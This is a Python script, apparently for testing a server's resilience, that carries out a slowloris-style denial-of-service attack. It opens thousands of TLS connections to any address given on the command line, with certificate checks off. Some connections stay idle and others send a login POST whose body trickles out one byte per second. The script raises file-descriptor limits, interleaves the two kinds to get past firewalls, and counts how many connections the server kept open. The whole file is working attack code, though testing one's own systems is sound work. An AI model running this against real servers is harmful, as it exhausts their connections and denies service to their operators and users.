"""What a hostile client does: thousands of idle TLS connections, and of requests whose bodies never end."""

import asyncio
import resource
import ssl
import sys

ADDRESS, NAME, SLOW, SECONDS = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:])
REQUEST = f"POST /auth/login/ HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 60000\r\n\r\n".encode()


async def attack(trust: ssl.SSLContext, request: bytes) -> bool:
    """Connect, and hold the connection; send a byte a second of what has a body.

    Args:
        trust: Any certificate.
        request: What is sent first, or nothing.

    Returns:
        Whether there was a connection.
    """
    try:
        _, writer = await asyncio.open_connection(ADDRESS, 443, ssl=trust, server_hostname=NAME)
    except OSError:
        return False
    try:
        writer.write(request)
        while True:
            await asyncio.sleep(1)
            writer.write(b"x" if request else b"")
            await writer.drain()
    except (OSError, asyncio.CancelledError):
        return True


async def main() -> None:
    """Attack with all at once, for a while."""
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    # In turns, so that what a firewall lets through is of both kinds.
    requests = [b"", b"", REQUEST] * SLOW
    attacks = [asyncio.create_task(attack(trust, request)) for request in requests]
    print("begun", flush=True)
    await asyncio.sleep(SECONDS)
    for one in attacks:
        one.cancel()
    held = await asyncio.gather(*attacks, return_exceptions=True)
    for kind in (b"", REQUEST):
        print(sum(1 for one, request in zip(held, requests, strict=True) if one is True and request == kind))


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main())
